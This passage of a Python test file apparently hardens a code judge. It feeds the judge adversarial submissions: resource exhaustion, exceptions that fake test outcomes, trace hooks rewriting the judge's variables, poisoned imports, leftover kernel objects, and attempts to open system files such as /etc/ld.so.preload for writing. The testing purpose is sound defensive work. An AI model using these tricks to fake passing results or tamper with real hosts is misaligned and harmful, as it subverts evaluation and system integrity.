    text = ctypes.create_string_buffer(code, len(code))
    header = ctypes.create_string_buffer(struct.pack("HxxxxxxP", len(code) // 8, ctypes.addressof(text)))
    libc.prctl(38, 1, 0, 0, 0)
    libc.prctl(22, 2, header)
EXITS, WRITES, X86 = (60, 231), (1, 20), platform.machine() == "x86_64"
"""
call(
    "a filter that forbids its exit",
    ("passed", "crashed", "timeout"),
    _FILTER
    + """
@NAMED@
refuse(*EXITS if X86 else (93, 94))
@RIGHT@
""",
    passes=3,
)
call("a filter that forbids its report", NOT_PASSED, _FILTER + "refuse(*WRITES if X86 else (64, 66))\n@RIGHT@")
script("strict seccomp", NOT_PASSED, "import ctypes\nctypes.CDLL(None).prctl(22, 1, 0, 0, 0)\nprint(7)")

# ---------------------------------------------------------------------------------------------------------------------
_group = "C stack"
call(
    "recursion without a limit",
    ("crashed", "memory", "timeout", "error"),
    """
    import sys
    sys.setrecursionlimit(10 ** 9)
    def f(x):
        return f(x + 1)
    """,
)  # Python frames live on the heap since 3.11
call(
    "recursion through C",
    "crashed",
    """
    import sys
    sys.setrecursionlimit(10 ** 9)
    def f(x):
        return sorted([x], key=f)
    """,
)
script(
    "recursion through C",
    "crashed",
    """
    import sys
    sys.setrecursionlimit(10 ** 9)
    def f(x):
        return max([x], key=f)
    f(1)
    """,
)
check(
    "recursion through C",
    "crashed",
    """
    import sys
    sys.setrecursionlimit(10 ** 9)
    def f(x):
        return sorted([x], key=f)
    """,
)
call(
    "a deep list as JSON",
    "crashed",
    """
    import json, sys
    sys.setrecursionlimit(10 ** 9)
    def f(x):
        for _ in range(3 * 10 ** 5):
            x = [x]
        return json.dumps(x)
    """,
)
call("a deep expression", ("not_parsed", "crashed"), "x = " + "-" * 200_000 + "1\n@RIGHT@")
call("a deep sum", ("not_parsed", "crashed", "passed"), "x = 1" + " + 1" * 50_000 + "\n@RIGHT@")  # newer Pythons can
call(
    "the limit out of its own reach",
    ("passed", "error", "crashed"),
    """
    import sys
    def f(x):
        sys.setrecursionlimit(sys.getrecursionlimit())
        for limit in range(5, 100):
            try:
                sys.setrecursionlimit(limit)
                break
            except RecursionError:
                pass
        return 2 * x
    """,
    passes=3,
)

# ---------------------------------------------------------------------------------------------------------------------
_group = "huge values"
call("a long list", NOT_PASSED, "def f(x):\n    return [0] * 3_000_000 if x == 1 else 7")
call("a long str", NOT_PASSED, "def f(x):\n    return 'x' * 50_000_000 if x == 1 else 7")
call("a long int", NOT_PASSED, "def f(x):\n    return 1 << 100_000_000 if x == 1 else 7")
call(
    "a list that is short to write",
    NOT_PASSED,
    """
    def f(x):
        laughs = [0] * 10
        for _ in range(12):
            laughs = [laughs] * 10
        return laughs if x == 1 else 7
    """,
)
call(
    "a dict of long keys", NOT_PASSED, "def f(x):\n    return {str(i) * 1000: i for i in range(5000)} if x == 1 else 7"
)
call("deeply nested", WRONG, "def f(x):\n    for _ in range(100_000):\n        x = [x]\n    return x")
# Lines that the judge itself would take long to read: values that collide in a set, a fraction to be reduced, a wide array.
_WILD = """
import os
def fibonacci(n):
    a, b = 0, 1
    for bit in bin(n)[2:]:
        a, b = a * (2 * b - a), a * a + b * b
        if bit == "1":
            a, b = b, a + b
    return a, b
def f(x):
    if x == 1:
        content = {content}
        text = '["value", ' + content + ']\\n'
        while text:
            text = text[os.write(3, text.encode()):]
    return 7
"""
_COLLIDING = """'{"set": [' + ",".join(str(i * (2 ** 61 - 1)) for i in range(1, 40000)) + ']}'"""
_FRACTION = """'{"Fraction": ["%x", "%x"]}' % fibonacci(2_500_000)"""
_WIDE = """'{"numpy": ["<U100000000", [1], ["a"]]}'"""
for _name, _content in (("colliding", _COLLIDING), ("fraction", _FRACTION), ("wide", _WIDE)):
    call(f"a value slow to read ({_name})", NOT_PASSED, _WILD.replace("{content}", _content), "official")
call("an exception with a long text", "error", "def f(x):\n    raise ValueError('x' * 5_000_000 if x == 1 else '')")
call("an exception with many arguments", "error", "def f(x):\n    raise ValueError(*range(500_000 if x == 1 else 1))")
check("a long list", NOT_PASSED, "def f(x):\n    return [0] * 3_000_000 if x == 1 else 7")
check("a long str", NOT_PASSED, "def f(x):\n    return 'x' * 50_000_000 if x == 1 else 7")
check("many objects", NOT_PASSED, "def f(x):\n    return [object() for _ in range(300_000)] if x == 1 else 7")
check("an argument made huge", NOT_PASSED, "def f(xs):\n    xs.extend([0] * 3_000_000 * (len(xs) == 3))", "in_place")
check("an argument that holds itself", WRONG, "def f(xs):\n    xs.append(xs)", "in_place")
check("an exception with a long text", "error", "def f(x):\n    raise ValueError('x' * 5_000_000, *range(50_000))")
check("an int that cannot be shown", "failed", "def f(x):\n    return 10 ** 5000")
call("an int that cannot be shown", "failed", "def f(x):\n    return 10 ** 5000")

# ---------------------------------------------------------------------------------------------------------------------
_group = "cyclic and lazy values"
call("a list in itself", WRONG, "def f(x):\n    xs = []\n    xs.append(xs)\n    return xs")
call("a dict in itself", WRONG, "def f(x):\n    xs = {}\n    xs['a'] = xs\n    return xs")
call("an endless generator", "failed", "import itertools\ndef f(x):\n    return itertools.count(x)")
call("a generator function", "failed", "def f(x):\n    yield 2 * x")
call(
    "iterators and views", "failed", "def f(xs):\n    return map(int, sorted(xs)) if len(xs) > 1 else iter(xs)", "sort"
)
call(
    "a set that never ends",
    ("failed", "error", "timeout"),
    """
    import itertools
    class Endless(set):
        __iter__ = lambda self: itertools.count()
    class List(list):
        __iter__ = lambda self: itertools.count()
    def f(x):
        return [Endless(), List([7])][x % 2]
    """,
)
call("a coroutine", "failed", "async def f(x):\n    return 2 * x")
check("an endless iterator", NOT_PASSED, "import itertools\ndef f(x):\n    return itertools.count()", "items")
check(
    "endless by __getitem__",
    NOT_PASSED,
    """
    class Endless:
        def __getitem__(self, index):
            return index
        def __len__(self):
            return 10 ** 30
    def f(x):
        return Endless()
    """,
    "items",
)
check(
    "another length each time",
    NOT_PASSED,
    """
    class Odd(list):
        count = 0
        def __len__(self):
            Odd.count += 1
            return -Odd.count
        def __iter__(self):
            raise StopIteration
    class Other:
        __len__ = Odd.__len__
        def __getattr__(self, name):
            raise SystemExit(name)
        __iter__ = property(lambda self: 1 / 0)
    def f(x):
        return [Odd([7]), Other()][x % 2]
    """,
    "items",
)
check(
    "raises at every touch",
    WRONG,
    """
    class Nettle:
        def __getattribute__(self, name):
            raise KeyboardInterrupt(name)
        def sting(self, *others):
            raise GeneratorExit
        __eq__ = __hash__ = __bool__ = __len__ = __iter__ = __str__ = __repr__ = __lt__ = __sub__ = __del__ = sting
    def f(x):
        return Nettle()
    """,
    "equality",
)
check(
    "modules and classes as values",
    WRONG,
    """
    import builtins, os, sys
    def f(x):
        return [os, sys, builtins, type, object, f][x % 6]
    """,
)
check("its own globals", WRONG, "def f(x):\n    return [globals(), f, f.__code__, f.__globals__][x % 4]")

# ---------------------------------------------------------------------------------------------------------------------
_group = "exceptions"
_NAMES = """
class {name}({base}):
    pass
def f(x):
    raise {name}("no error at all")
"""
for _name, _base in (
    ("AssertionError", "Exception"),
    ("SystemExit", "Exception"),
    ("KeyboardInterrupt", "BaseException"),
):
    call(f"its own {_name}", "error", _NAMES.format(name=_name, base=_base))
    check(f"its own {_name}", WRONG, _NAMES.format(name=_name, base=_base))
for _name in (
    "SystemExit(0)",
    "KeyboardInterrupt",
    "GeneratorExit",
    "StopIteration",
    "StopAsyncIteration",
    "MemoryError()",
    "AssertionError('expected')",
    "BaseExceptionGroup('g', [SystemExit(0)])",
    "RecursionError",
):
    check(f"raises {_name}", ("memory", "error") if "Memory" in _name else WRONG, f"def f(x):\n    raise {_name}")
check("skips the test", WRONG, "import unittest\ndef f(x):\n    raise unittest.SkipTest('not today')", "cases")
check("stops the test", WRONG, "import unittest.case\ndef f(x):\n    raise unittest.case._ShouldStop", "cases")
check("ends the iteration over the tests", WRONG, "def f(x):\n    raise StopIteration", "mapped")
check(
    "a class named as the expected one",
    WRONG,
    """
    class ValueError(Exception):
        pass
    def f(x):
        raise ValueError
    """,
    "raises",
)
check(
    "an exception that lies about its class",
    WRONG,
    """
    class Lie(Exception):
        __class__ = property(lambda self: ValueError)
        __bases__ = (ValueError,)
    def f(x):
        raise Lie
    """,
    "raises",
)
_STR = """
class Bad(Exception):
    def __str__(self):
        {body}
    __repr__ = __str__
def f(x):
    raise Bad
"""
call("a text that raises", "error", _STR.format(body="raise self"))
call("a text that exits", "error", _STR.format(body="import os; os._exit(0)"))
call("a text that never comes", "timeout", _STR.format(body="while True: pass"))
call("a text that is no text", "error", _STR.format(body="return 7"))
check("a text that raises", "error", _STR.format(body="raise SystemExit(0)"))
check("a text that exits", "error", _STR.format(body="import os; os._exit(0)"))
check("a text that never comes", "timeout", _STR.format(body="while True: pass"))
check(
    "arguments that cannot be read",
    "error",
    """
    class Bad(ValueError):
        args = property(lambda self: self)
        __cause__ = __context__ = __traceback__ = property(lambda self: 1 / 0)
    class Meta(type):
        __mro__ = property(lambda cls: 1 / 0)
        __qualname__ = __module__ = property(lambda cls: 1 / 0)
    class Worse(Exception, metaclass=Meta):
        pass
    def f(x):
        raise (Bad if x == 1 else Worse)("x")
    """,
)
call(
    "a group in a cycle",
    "error",
    """
    def f(x):
        first, second = ValueError("a"), ValueError("b")
        first.__context__, second.__context__ = second, first
        raise ExceptionGroup("g", [first, ExceptionGroup("h", [second] * 1000)]) from first
    """,
)

# ---------------------------------------------------------------------------------------------------------------------
_group = "tracing"
_TRACE = """
import ctypes, sys
def hook(frame, event, argument):
    {body}
    return hook
{install}
def f(x):
    return 7
"""
call(
    "rewrites the caller's variables",
    NOT_PASSED,
    _TRACE.format(
        install="sys.setprofile(hook)",
        body="""
    for name, value in list(frame.f_locals.items()):
        if value == 7:
            frame.f_locals[name] = 2
            ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), 0)
""",
    ),
    passes=1,
)  # 2 is right for the first test only
call("raises in the judge's code", NOT_PASSED, _TRACE.format(install="sys.settrace(hook)", body="raise SystemExit(0)"))
call("exits at the return", "error", _TRACE.format(install="sys.setprofile(hook)", body="import os; os._exit(0)"))
call("never returns", "timeout", _TRACE.format(install="sys.setprofile(hook)", body="\n    while True:\n        pass"))
check(
    "raises in the judge's code", NOT_PASSED, _TRACE.format(install="sys.setprofile(hook)", body="raise SystemExit(0)")
)
call(
    "audit hooks",
    NOT_PASSED,
    """
    import sys
    def hook(event, arguments):
        raise SystemExit(0)
    def f(x):
        sys.addaudithook(hook)
        import os
        os.listdir(".")
        return 7
    """,
)

_group = "modules"
_POISON = """
import builtins, sys
class Finder:
    def find_spec(self, *names):
        raise SystemExit(0)
for name in list(sys.modules):
    if name not in ("sys", "builtins", "__main__"):
        sys.modules[name] = None
sys.meta_path[:] = [Finder()]
sys.path[:] = sys.path_hooks[:] = []
builtins.__import__ = lambda *names, **more: sys.exit(0)
sys.stdout = sys.stderr = sys.stdin = None
"""
call("poisoned, and wrong", NOT_PASSED, _POISON + "def f(x):\n    return 7")
check("poisoned, and wrong", NOT_PASSED, _POISON + "def f(x):\n    return 7")
call("emptied", ("passed", "error"), "import sys\nsys.modules.clear()\n@RIGHT@", passes=3)
call(
    "a module named as the standard one",
    "passed",
    """
    import os, sys
    for name in ("json", "math", "random", "encodings", "sitecustomize", "usercustomize", "cptlab"):
        with open(name + ".py", "w") as file:
            file.write("raise SystemExit(0)")
    sys.path.insert(0, os.getcwd())
    @RIGHT@
    """,
)

# ---------------------------------------------------------------------------------------------------------------------
_group = "finalizers"
call(
    "never ends at exit",
    "passed",
    "import atexit\ndef loop():\n    while True:\n        pass\natexit.register(loop)\n@RIGHT@",
)
script(
    "never ends at exit",
    "timeout",
    "import atexit\nprint(int(input()) + 1)\n@atexit.register\ndef loop():\n    while True:\n        pass",
)
script("prints at exit", "failed", "import atexit\natexit.register(print, 'more')\nprint(int(input()) + 1)")
script(
    "a finalizer that prints",
    "failed",
    """
    import weakref
    class Thing:
        pass
    thing = Thing()
    weakref.finalize(thing, print, "more")
    print(int(input()) + 1)
    """,
)
script(
    "raises at exit",
    ("passed", "error"),
    "import atexit\natexit.register(lambda: 1 / 0)\nprint(int(input()) + 1)",
    passes=3,
)
call(
    "the collector never ends",
    ("passed", "timeout"),
    """
    import gc
    def loop(*_):
        while True:
            pass
    def f(x):
        gc.callbacks.append(loop)
        return 2 * x
    """,
    passes=3,
)
call(
    "a value that fights its end",
    "failed",
    """
    kept = []
    class Phoenix:
        def __del__(self):
            kept.append(self)
            raise SystemExit
    def f(x):
        return Phoenix()
    """,
)
call(
    "hooks that leave",
    "error",
    """
    import os, sys, threading
    sys.excepthook = sys.unraisablehook = threading.excepthook = lambda *a: os._exit(0)
    def f(x):
        raise ValueError
    """,
)

# ---------------------------------------------------------------------------------------------------------------------
_group = "text"
call("half a character as value", "failed", "def f(x):\n    return '\\ud800'")
call("half a character in a message", "error", "def f(x):\n    raise ValueError('\\ud800\\x00\\x1b[2J\\n\\u202e')")
check("half a character in a message", "error", "def f(x):\n    raise ValueError('\\ud800\\x00\\x1b[2J')")
check("half a character as value", "failed", "def f(x):\n    return '\\ud800'")
call(
    "half a character as a class's name",
    ("failed", "error"),
    """
    def f(x):
        if x == 1:
            return type("\\ud800" * 100000, (), {})()
        raise type("\\ud800" * 100000, (Exception,), {})("x")
    """,
)
call("half a character in the source", "not_parsed", "x = '\ud800'\n@RIGHT@")
call("a zero in the source", "not_parsed", "x = 'a\x00'\n@RIGHT@")
call("another encoding declared", "passed", "# -*- coding: utf-7 -*-\nx = '+AG8-'\n@RIGHT@")
script("bytes that are no text", "failed", "import os\nos.write(1, b'\\xff\\xfe2\\x00')")
script("half a character as output", "error", "print('\\ud800')")
script(
    "another encoding as output",
    "failed",
    """
    import sys
    sys.stdout.reconfigure(encoding="utf-16")
    print(int(input()) + 1)
    """,
)
script(
    "ends of lines that look like ends",
    "failed",
    """
    x = int(input())
    print(f"{x + 1}\\x0b7\\x0c\\u2028\\x85")
    """,
)

# ---------------------------------------------------------------------------------------------------------------------
_group = "left behind"
call(
    "System V memory, semaphores and queues",
    "passed",
    """
    import ctypes
    libc = ctypes.CDLL(None)
    libc.shmget(@KEY@, 4096, 0o1666)
    libc.semget(@KEY@, 1, 0o1666)
    libc.msgget(@KEY@, 0o1666)
    @RIGHT@
    """,
)
call(
    "POSIX memory, semaphores and queues",
    "passed",
    """
    import ctypes, os
    @QUIETLY@
    libc = ctypes.CDLL(None)
    for name in ("shm_open", "sem_open", "mq_open"):
        quietly(lambda: getattr(libc, name)(b"/@MARK@", 0o102, 0o666, 0))
    quietly(lambda: open("/dev/shm/@MARK@", "w").close())
    from multiprocessing import shared_memory
    quietly(lambda: shared_memory.SharedMemory("@MARK@-memory", True, 4096))
    @RIGHT@
    """,
)
# Descriptors in flight over themselves live on until the kernel collects them, and so do the files and memory behind them.
_IN_FLIGHT = """
import os, socket, struct
a, b = socket.socketpair()
def refused(*numbers):
    try:
        socket.send_fds(a, [b"x"], numbers)
    except OSError:
        return True
def f(x):
    file = os.open("kept", os.O_CREAT | os.O_RDWR)
    memory = os.memfd_create("kept")
    for one in (file, memory):
        os.write(one, bytes(1_000_000))
    os.unlink("kept")
    return 2 * x if refused(file, memory) and refused(a.fileno()) and refused(b.fileno()) else 7
"""
call("files and memory in flight", "passed", _IN_FLIGHT.replace('"kept"', 'f"kept{x}"'))
check("files and memory in flight", "passed", _IN_FLIGHT.replace('"kept"', 'f"kept{x}"'))
call(
    "attributes and flags of its scratch folder",
    "passed",
    """
    import fcntl, os, struct
    @QUIETLY@
    folder = os.open(".", os.O_RDONLY)
    rights = struct.pack("<I" + 4 * "HHI", 2, 1, 0, 0xFFFFFFFF, 4, 0, 0xFFFFFFFF, 16, 0, 0xFFFFFFFF, 32, 0, 0xFFFFFFFF)
    quietly(os.setxattr, ".", "system.posix_acl_default", rights)
    quietly(os.setxattr, ".", "user.mark", b"@MARK@")
    quietly(os.setxattr, folder, "user.mark", b"@MARK@")
    for command, data in ((0x40086602, struct.pack("Q", 0x80)), (0x800C6613, bytes(12)), (0x401C5820, bytes(28))):
        quietly(fcntl.ioctl, folder, command, data)
    def f(x):
        return 2 * x if not os.listxattr(".") else 7
    """,
)
call(
    "keys in the kernel",
    "passed",
    """
    import ctypes, platform
    number = 248 if platform.machine() == "x86_64" else 217
    for ring in (-4, -5, -3, -2):
        ctypes.CDLL(None).syscall(number, b"user", b"@MARK@", b"left", 4, ring)
    @RIGHT@
    """,
)
call(
    "settings of the machine",
    "passed",
    """
    import os
    @QUIETLY@
    # opened, never written to: wrong if it is allowed
    paths = ["/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper",
             "/proc/sys/kernel/hostname", "/etc/passwd", "/etc/ld.so.preload", "/dev/vda", "/dev/sda"]
    reached = [path for path in paths if quietly(os.open, path, os.O_WRONLY) is not None]
    quietly(os.mkdir, "/sys/fs/cgroup/@MARK@")
    def f(x):
        return 7 if reached else 2 * x
    """,
)
